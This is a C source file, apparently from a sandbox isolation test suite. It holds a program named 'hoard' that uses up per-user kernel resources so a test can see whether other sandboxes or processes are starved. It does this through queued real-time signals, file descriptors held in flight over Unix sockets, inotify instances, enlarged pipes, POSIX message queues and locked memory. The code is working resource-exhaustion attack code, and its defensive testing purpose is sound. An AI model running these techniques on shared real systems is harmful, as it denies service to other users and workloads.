/* SPDX-License-Identifier: MIT */
/*
 * Takes all that there is of what the kernel counts for each user, and holds
 * it: his other programs, and other sandboxes, could be left with nothing.
 * Prints how many it has, then waits for the end of its standard input.
 * Whether others are hurt is for the test to see: run on the host with a
 * number, it takes no more than so many.
 *
 *   hoard WAY [MOST]
 */
#include "attack.h"

#include <fcntl.h>
#include <mqueue.h>
#include <signal.h>
#include <stdint.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static long most = 1000000;

static void hold(long amount) {
  char byte;
  printf("%ld\n", amount);
  fflush(stdout);
  while (read(0, &byte, 1) > 0)
    ;
}

/* All descriptors that one may have. */
static void raise_limit(void) {
  struct rlimit limit;
  if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
  }
}

/* Signals that wait for ever. */
static void by_signals(void) {
  sigset_t all;
  long n = 0;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  while (n < most && sigqueue(getpid(), SIGRTMIN + 1, (union sigval){0}) == 0)
    n++;
  hold(n);
}

/* Sends `count` copies of a descriptor that nobody will take out. */
static bool send_copies(int to, int fd, int count) {
  union {
    struct cmsghdr header;
    char room[CMSG_SPACE(253 * sizeof(int))];
  } control;
  memset(&control, 0, sizeof control);
  char byte = 0;
  struct iovec one = {&byte, 1};
  struct msghdr msg = {.msg_iov = &one,
                       .msg_iovlen = 1,
                       .msg_control = &control,
                       .msg_controllen = CMSG_SPACE((size_t)count * sizeof fd)};
  struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN((size_t)count * sizeof fd);
  for (int i = 0; i < count; i++)
    memcpy(CMSG_DATA(c) + (size_t)i * sizeof fd, &fd, sizeof fd);
  return sendmsg(to, &msg, MSG_DONTWAIT | MSG_NOSIGNAL) == 1;
}

/* Descriptors in flight; too many of a user's, and none of his can be sent. */
static void by_flight(void) {
  long n = 0;
  int pair[2];
  raise_limit();
  while (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) {
    long before = n;
    while (n < most && send_copies(pair[0], pair[1], 253))
      n += 253;
    if (n == before || n >= most)
      break;
  }
  hold(n);
}

static void by_inotify(void) {
  long n = 0;
  raise_limit();
  while (n < most && inotify_init1(IN_CLOEXEC) >= 0)
    n++;
  hold(n);
}

/* Pages of pipes, each made as large as it may be. */
static void by_pipes(void) {
  long n = 0;
  int pair[2];
  raise_limit();
  while (n < most && pipe(pair) == 0) {
    n++;
    for (int size = 1 << 20; size > 4096; size /= 2)
      if (fcntl(pair[0], F_SETPIPE_SZ, size) > 0)
        break;
  }
  /* A few descriptors for whatever comes. */
  close(pair[0]);
  hold(n);
}

static void by_queues(void) {
  long n = 0;
  char name[32];
  while (n < most) {
    snprintf(name, sizeof name, "/hoard-%ld", n);
    if (mq_open(name, O_CREAT | O_EXCL | O_RDWR, 0600, NULL) < 0)
      break;
    n++;
  }
  hold(n);
  while (n-- > 0) {
    snprintf(name, sizeof name, "/hoard-%ld", n);
    mq_unlink(name);
  }
}

static void by_locking(void) {
  long n = 0;
  struct rlimit limit;
  if (getrlimit(RLIMIT_MEMLOCK, &limit) == 0) {
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_MEMLOCK, &limit);
  }
  const size_t page = 65536;
  while (n < most && n < 4096) {
    void *p = mmap(NULL, page, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED || mlock(p, page) < 0)
      break;
    n++;
  }
  hold(n * (long)page);
}

int main(int argc, char **argv) {
  static const way ways[] = {{"signals", by_signals}, {"flight", by_flight},
                             {"inotify", by_inotify}, {"pipes", by_pipes},
                             {"queues", by_queues},   {"locking", by_locking}};
  if (argc > 2)
    most = atol(argv[2]);
  return take_way(ways, COUNT(ways), argc > 1 ? argv[1] : NULL);
}
